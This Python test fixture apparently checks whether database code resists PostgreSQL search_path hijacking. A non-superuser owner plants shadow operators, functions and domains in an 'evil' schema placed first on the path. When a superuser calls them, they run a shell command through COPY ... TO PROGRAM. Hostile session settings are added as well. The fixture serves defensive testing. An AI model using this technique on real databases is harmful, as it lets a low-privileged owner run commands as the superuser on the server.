"""A database whose owner, who is no superuser, has put operators, functions, types and settings in everybody's way.

Every name of pg_catalog that a query may use by its bare name is there once more, first on the search_path: it does the
same, and, where a superuser calls it, has the server's machine write into a file.
"""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import psycopg
from psycopg import sql
from psycopg.conninfo import conninfo_to_dict, make_conninfo

OWNER = "mallory"

_HIT = """
CREATE SCHEMA IF NOT EXISTS evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE OR REPLACE FUNCTION evil.hit(what pg_catalog.text) RETURNS pg_catalog.bool LANGUAGE plpgsql
  SET search_path = pg_catalog AS $f$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    EXECUTE format('COPY (SELECT %L) TO PROGRAM %L', what, 'cat >> {marker}');
  END IF;
  RETURN true;
END $f$;
"""
_SHADOWS = r"""
DO $do$
DECLARE one record; call text; words text;
BEGIN
  SET LOCAL search_path = pg_catalog;
  FOR one IN SELECT oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result, oid
               FROM pg_operator WHERE oprnamespace = 'pg_catalog'::regnamespace AND oprcode <> 0
                AND NOT EXISTS (SELECT FROM pg_type AS type
                                 WHERE typtype = 'p' AND type.oid IN (oprleft, oprright, oprresult))
  LOOP
    words := concat_ws(', ', nullif(one.l::text, '-'), one.r::text);
    call := CASE WHEN one.l = 0 THEN format('OPERATOR(pg_catalog.%s) $1', one.oprname)
                 ELSE format('$1 OPERATOR(pg_catalog.%s) $2', one.oprname) END;
    EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', 'op' || one.oid, words, one.result,
                   format('BEGIN PERFORM evil.hit(%L); RETURN %s; END', 'operator ' || one.oprname, call));
    EXECUTE format('CREATE OPERATOR evil.%s (FUNCTION = evil.%I, %s RIGHTARG = %s)', one.oprname, 'op' || one.oid,
                   CASE WHEN one.l = 0 THEN '' ELSE format('LEFTARG = %s,', one.l) END, one.r);
  END LOOP;
  FOR one IN SELECT oid, proname, pg_get_function_identity_arguments(oid) AS args, prorettype::regtype AS result,
                    pronargs
               FROM pg_proc WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind = 'f' AND NOT proretset
                AND provariadic = 0 AND proargmodes IS NULL AND pronargs <= 3
                AND NOT EXISTS (SELECT FROM pg_type WHERE typtype = 'p' AND (pg_type.oid = prorettype
                                   OR pg_type.oid = ANY (proargtypes::oid[])))
                AND proname IN ('now', 'count', 'lower', 'upper', 'md5', 'length', 'current_database', 'quote_ident',
                  'current_setting', 'set_config', 'pg_backend_pid', 'to_regclass', 'pg_get_userbyid', 'split_part',
                  'hashtextextended', 'pg_try_advisory_lock', 'pg_advisory_unlock', 'replace', 'format_type', 'left',
                  'has_table_privilege', 'pg_is_in_recovery', 'current_schema', 'right', 'substring', 'int8', 'text',
                  'name')
  LOOP
    SELECT string_agg('$' || n, ', ') INTO call FROM generate_series(1, one.pronargs) AS n;
    EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', one.proname, one.args, one.result,
                   format('BEGIN PERFORM evil.hit(%L); RETURN pg_catalog.%I(%s); END', 'function ' || one.proname,
                          one.proname, call));
  END LOOP;
  FOREACH words IN ARRAY ARRAY['text', 'name', 'oid', 'int2', 'int4', 'int8', 'bool', 'timestamptz', 'regclass',
                               'bytea']
  LOOP
    EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%I CHECK (evil.hit(%L))', words, words, 'type ' || words);
  END LOOP;
END $do$;
"""
_SETTINGS = {
    "search_path": "evil, pg_catalog, public",
    "standard_conforming_strings": "off",
    "backslash_quote": "on",
    "DateStyle": "'SQL, DMY'",
    "IntervalStyle": "sql_standard",
    "TimeZone": "'Pacific/Chatham'",
    "bytea_output": "escape",
    "transform_null_equals": "on",
    "array_nulls": "off",
    "quote_all_identifiers": "on",
    "extra_float_digits": "'-15'",
    "client_encoding": "'SQL_ASCII'",
    "default_transaction_isolation": "serializable",
}
_ENDINGS = {
    "exit_on_error": "on",
    "idle_in_transaction_session_timeout": "1",
    "statement_timeout": "1",
    "local_preload_libraries": "'no_such_library'",
}
"""What ends a session that does not say otherwise: one for the user's own SQL is not kept from it."""


def planting(marker: Path) -> str:
    """The SQL of it, for a session of the database's owner."""
    return _HIT.format(marker=marker) + _SHADOWS


def settings_of(database: str, *, ends: bool = False) -> list[str]:
    """The statements that make every new session of the database begin so; `ends`: and most of them end so."""
    settings = _SETTINGS | _ENDINGS if ends else _SETTINGS
    return [f'ALTER DATABASE "{database}" SET {name} = {value}' for name, value in settings.items()]


def _doing(statement: str) -> str:
    """The same in a migration, which does not know the database's name."""
    text = statement.replace("'", "''").replace('"{}"', "%I")
    return f"EXECUTE format('{text}', pg_catalog.current_database());"


DATABASE_SETTINGS = f"DO $set$ BEGIN {' '.join(map(_doing, settings_of('{}')))} END $set$;"
"""The same settings, for whatever database it is run in."""


@contextmanager
def taken_over(url: str, marker: Path, *, ends: bool = False) -> Iterator[None]:
    """While the block lasts, the database is Mallory's, who has planted all of it. `url` is a superuser's."""
    name = str(conninfo_to_dict(url)["dbname"])
    with psycopg.connect(url, autocommit=True) as admin:
        if not admin.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (OWNER,)).fetchone():
            admin.execute(sql.SQL("CREATE ROLE {} LOGIN").format(sql.Identifier(OWNER)))
        admin.execute(f'ALTER DATABASE "{name}" OWNER TO {OWNER}')
    with psycopg.connect(make_conninfo(url, user=OWNER), autocommit=True) as mallory:
        mallory.execute(planting(marker).encode())
        for statement in settings_of(name, ends=ends):
            mallory.execute(statement.encode())
    yield
    with psycopg.connect(make_conninfo(url, dbname="postgres", user="journal_superuser"), autocommit=True) as admin:
        admin.execute(f'ALTER DATABASE "{name}" RESET ALL')


def reached(marker: Path) -> list[str]:
    """What ran on the machine, by its name."""
    return sorted(set(marker.read_text().split("\n")) - {""}) if marker.exists() else []
